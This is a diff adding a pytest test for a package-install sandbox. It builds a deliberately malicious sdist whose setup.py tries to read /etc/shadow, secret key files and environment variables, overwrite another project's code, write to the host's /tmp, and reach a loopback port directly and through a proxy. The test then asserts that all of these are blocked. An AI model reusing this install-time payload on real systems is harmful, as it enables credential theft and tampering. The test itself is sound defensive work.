@@ -1,0 +1,132 @@
+"""A malicious package's build code, run by pip in the install sandbox, gets nothing out of it.
+
+The sdist's in-tree build backend is its setup.py, so pip runs it while preparing the build. It
+tries to read /etc/shadow, the server's secret key file and environment, to write into another
+project and the host's /tmp, and to reach a loopback listener of the host directly and through
+the index proxy; then it fails on purpose so pip prints everything it found.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import shutil
+import socket
+import tarfile
+import tempfile
+import threading
+from pathlib import Path
+
+import pytest
+
+from sandbox.bwrap import BwrapBackend
+from sandbox.packages.install import PROXY_TARGET, Installer, InstallFailed
+from sandbox.packages.proxy import SOCKET_NAME
+
+FAKE_SECRET = "fake-secret-key-5b0c9e1d7a"
+ATTACK = r'''
+import os, socket
+found = []
+def attempt(name, action):
+    try:
+        found.append("%s=GOT %r" % (name, action()))
+    except BaseException as exc:
+        found.append("%s=refused (%s)" % (name, type(exc).__name__))
+attempt("shadow", lambda: open("/etc/shadow").read())
+attempt("secret_file", lambda: open(SECRET_FILE).read())
+attempt("secret_env", lambda: os.environ["CODEYARD_SECRET_KEY"])
+attempt("pid1_environ", lambda: open("/proc/1/environ", "rb").read())
+attempt("other_project", lambda: open(os.path.join(OTHER_PROJECT, "main.py"), "w").write("pwned"))
+attempt("host_tmp", lambda: open(HOST_MARKER, "w").write("pwned"))
+attempt("loopback", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=3).send(b"pwned"))
+def through_proxy():
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(PROXY_SOCKET)
+    s.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % PORT)
+    answer = s.recv(100)
+    if b" 200 " not in answer:
+        raise PermissionError(answer)
+    s.sendall(b"pwned")
+    return answer
+attempt("proxy_to_loopback", through_proxy)
+raise SystemExit("evil-attack-ran: " + "; ".join(found))
+'''
+
+
+def sdist(folder: Path, settings: str) -> None:
+    """evil-0.1.tar.gz whose build backend is its setup.py."""
+    files = {
+        "evil-0.1/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n",
+        "evil-0.1/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n',
+        "evil-0.1/setup.py": settings + ATTACK,
+    }
+    with tarfile.open(folder / "evil-0.1.tar.gz", "w:gz") as tar:
+        for name, text in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(text.encode())
+            tar.addfile(info, io.BytesIO(text.encode()))
+
+
+@pytest.fixture
+def listener():
+    """A loopback server of the host that records every connection it gets."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    accepted: list[bytes] = []
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            accepted.append(b"connection")
+            conn.close()
+
+    thread = threading.Thread(target=serve)
+    thread.start()
+    yield server.getsockname()[1], accepted
+    stop.set()
+    thread.join()
+    server.close()
+
+
+@pytest.fixture
+def host(tmp_path, monkeypatch):
+    """The host-side things the package goes after: a secret key file and env, another project, /tmp."""
+    monkeypatch.setenv("CODEYARD_SECRET_KEY", FAKE_SECRET)
+    data = Path(tempfile.mkdtemp(prefix="codeyard-victim-"))
+    os.chmod(data, 0o777)  # only the sandbox may stand in the way, not the host's permissions
+    (data / "secret_key").write_text(FAKE_SECRET)
+    (data / "project").mkdir(mode=0o777)
+    (data / "project" / "main.py").write_text("print('mine')\n")
+    os.chmod(data / "project" / "main.py", 0o666)
+    yield data
+    shutil.rmtree(data)
+
+
+async def test_malicious_setup_py_escapes_nothing(packages_root, host, listener, tmp_path):
+    port, accepted = listener
+    marker = Path(tempfile.gettempdir()) / f"codeyard-evil-{port}"
+    settings = (f"SECRET_FILE = {str(host / 'secret_key')!r}\nOTHER_PROJECT = {str(host / 'project')!r}\n"
+                f"HOST_MARKER = {str(marker)!r}\nPORT = {port}\nPROXY_SOCKET = {PROXY_TARGET + '/' + SOCKET_NAME!r}\n")
+    wheelhouse = Path(tempfile.mkdtemp(prefix="codeyard-wheelhouse-"))
+    os.chmod(wheelhouse, 0o755)
+    try:
+        sdist(wheelhouse, settings)
+        installer = Installer(BwrapBackend(), packages_root, index_url=None, find_links=wheelhouse)
+        said: list[str] = []
+        with pytest.raises(InstallFailed) as failure:
+            await installer.install(["evil"], said.append)
+    finally:
+        shutil.rmtree(wheelhouse)
+    output = "".join(said) + str(failure.value)
+    assert "evil-attack-ran" in output, output  # the hostile code did run, in the sandbox
+    for attempt in ("shadow", "secret_file", "secret_env", "other_project", "loopback", "proxy_to_loopback"):
+        assert f"{attempt}=refused" in output, output
+    assert FAKE_SECRET not in output  # nor in /proc/1/environ, which it read
+    assert accepted == []
+    assert "host_tmp=GOT" in output and not marker.exists()  # it wrote to its own /tmp, not the host's
+    assert (host / "project" / "main.py").read_text() == "print('mine')\n"
+    assert list(installer.envs.iterdir()) == []
